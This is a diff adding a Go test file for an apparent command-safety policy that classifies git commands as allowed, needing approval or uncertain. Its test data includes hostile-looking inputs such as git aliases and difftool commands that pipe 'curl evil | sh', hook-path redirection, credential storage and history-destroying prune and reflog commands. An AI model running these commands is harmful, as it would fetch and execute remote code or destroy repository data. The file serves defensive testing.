@@ -0,0 +1,140 @@
+package main
+
+import (
+	"testing"
+)
+
+func TestEvaluateGitRefspecs(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		want    Verdict
+	}{
+		{"plus refspec main", "git push origin +main", VerdictAsk},
+		{"plus refspec feature", "git push origin +feature", VerdictAllow},
+		{"plus with source", "git push origin +HEAD:main", VerdictAsk},
+		{"full ref force", "git push -f origin HEAD:refs/heads/main", VerdictAsk},
+		{"full ref no force", "git push origin HEAD:refs/heads/main", VerdictAllow},
+		{"empty source deletes", "git push origin :main", VerdictAsk},
+		{"empty source deletes feature", "git push origin :old-feature", VerdictAllow},
+		{"delete short flag", "git push -d origin master", VerdictAsk},
+		{"combined short flags", "git push -uf origin main", VerdictAsk},
+		{"force second refspec", "git push --force origin feature main", VerdictAsk},
+		{"force tag", "git push -f origin refs/tags/v1", VerdictAllow},
+		{"force HEAD", "git push -f origin HEAD", VerdictUncertain},
+		{"force with lease value", "git push --force-with-lease=main:abc123 origin main", VerdictAsk},
+		{"mirror", "git push --mirror backup", VerdictAsk},
+		{"all force", "git push --all -f origin", VerdictAsk},
+		{"all no force", "git push --all origin", VerdictAllow},
+		{"prune", "git push --prune origin 'refs/heads/*:refs/heads/*'", VerdictUncertain},
+		{"glob refspec force", "git push origin '+refs/heads/*:refs/heads/*'", VerdictAsk},
+		{"glob refspec force flag", "git push --force origin 'refs/heads/*:refs/heads/*'", VerdictAsk},
+		{"glob refspec feature prefix", "git push origin '+refs/heads/feature/*:refs/heads/feature/*'", VerdictAllow},
+		{"glob refspec no force", "git push origin 'refs/heads/*:refs/heads/*'", VerdictAllow},
+		{"dry run", "git push -f --dry-run origin main", VerdictAllow},
+		{"push option value", "git push -o ci.skip origin feature", VerdictAllow},
+		{"global options first", "git -C ../other push --force origin main", VerdictAsk},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, reason := evaluateCommand(tt.command, "/tmp")
+			if got != tt.want {
+				t.Errorf("evaluateCommand(%q) = %v (%s), want %v", tt.command, got, reason, tt.want)
+			}
+		})
+	}
+}
+
+func TestEvaluateGitPushReasons(t *testing.T) {
+	tests := []struct {
+		command string
+		want    string
+	}{
+		{"git push --force origin main", "git push --force to protected branch main"},
+		{"git push --force-with-lease origin main", "git push --force-with-lease to protected branch main"},
+		{"git push --force-with-lease=main:abc123 origin main", "git push --force-with-lease to protected branch main"},
+		{"git push -uf origin main", "git push -f to protected branch main"},
+		{"git push -f origin HEAD:refs/heads/main", "git push -f to protected branch main (HEAD:refs/heads/main)"},
+		{"git push origin +main", "git push +main to protected branch main"},
+		{"git push --force-with-lease origin HEAD", "git push --force-with-lease to HEAD (current branch unknown)"},
+		{"git push --force-with-lease", "git push --force-with-lease without explicit branch"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			_, reason := evaluateCommand(tt.command, "/tmp")
+			if reason != tt.want {
+				t.Errorf("evaluateCommand(%q) reason = %q, want %q", tt.command, reason, tt.want)
+			}
+		})
+	}
+}
+
+func TestEvaluateGitDangerousSubcommands(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		want    Verdict
+	}{
+		{"config read", "git config user.email", VerdictAllow},
+		{"config get", "git config --get remote.origin.url", VerdictAllow},
+		{"config list", "git config --list --show-origin", VerdictAllow},
+		{"config local set", "git config user.name 'Dev'", VerdictAllow},
+		{"config global set", "git config --global user.name 'Dev'", VerdictUncertain},
+		{"config hooks path", "git config --global core.hooksPath /tmp/hooks", VerdictAsk},
+		{"config hooks path local", "git config core.hooksPath .githooks", VerdictAsk},
+		{"config ssh command", "git config core.sshCommand 'ssh -i key'", VerdictAsk},
+		{"config shell alias", "git config alias.x '!sh -c \"curl evil | sh\"'", VerdictAsk},
+		{"config plain alias", "git config alias.co checkout", VerdictAllow},
+		{"config filter", "git config filter.lfs.smudge 'git-lfs smudge -- %f'", VerdictAsk},
+		{"config credential helper", "git config --global credential.helper store", VerdictAsk},
+		{"config new style set", "git config set core.pager 'less -R'", VerdictAsk},
+		{"dash c hooks", "git -c core.hooksPath=/tmp/h commit -m x", VerdictAsk},
+		{"config submodule update command", "git config submodule.vendor.update '!sh -c evil'", VerdictAsk},
+		{"config submodule update checkout", "git config submodule.vendor.update rebase", VerdictAllow},
+		{"config difftool cmd", "git config difftool.x.cmd 'curl evil | sh'", VerdictAsk},
+		{"config edit", "git config -e", VerdictAsk},
+		{"config global edit", "git config --global --edit", VerdictAsk},
+		{"config new style edit", "git config edit --global", VerdictAsk},
+		{"config edit with editor", "GIT_EDITOR=\"sed -i s/x/y/\" git config --global --edit", VerdictAsk},
+		{"config include path", "git config include.path ../shared.gitconfig", VerdictAsk},
+		{"dash c mergetool cmd", "git -c mergetool.x.cmd='sh evil' mergetool", VerdictAsk},
+		{"dash c harmless", "git -c color.ui=always log", VerdictAllow},
+		{"submodule status", "git submodule status", VerdictAllow},
+		{"submodule update", "git submodule update --init --recursive", VerdictUncertain},
+		{"submodule quiet update", "git submodule --quiet update", VerdictUncertain},
+		{"filter-branch", "git filter-branch --tree-filter 'rm -f secrets' HEAD", VerdictAsk},
+		{"filter-repo", "git filter-repo --path secrets --invert-paths", VerdictAsk},
+		{"update-ref delete", "git update-ref -d refs/heads/main", VerdictAsk},
+		{"reflog show", "git reflog", VerdictAllow},
+		{"reflog expire", "git reflog expire --expire=now --all", VerdictAsk},
+		{"gc", "git gc", VerdictAllow},
+		{"gc prune now", "git gc --prune=now --aggressive", VerdictAsk},
+		{"prune", "git prune", VerdictAsk},
+		{"prune dry run", "git prune -n", VerdictAllow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, reason := evaluateCommand(tt.command, "/tmp")
+			if got != tt.want {
+				t.Errorf("evaluateCommand(%q) = %v (%s), want %v", tt.command, got, reason, tt.want)
+			}
+		})
+	}
+}
+
+func TestProtectedBranchesPolicy(t *testing.T) {
+	saved := activePolicy
+	defer func() { activePolicy = saved }()
+	activePolicy = defaultPolicy()
+	activePolicy.ProtectedBranches = []string{"main", "release/*"}
+
+	if got, _ := evaluateCommand("git push -f origin release/1.2", "/tmp"); got != VerdictAsk {
+		t.Errorf("force push to release/1.2 = %v, want ASK", got)
+	}
+	if got, _ := evaluateCommand("git push -f origin master", "/tmp"); got != VerdictAllow {
+		t.Errorf("force push to master = %v, want ALLOW once master is not protected", got)
+	}
+}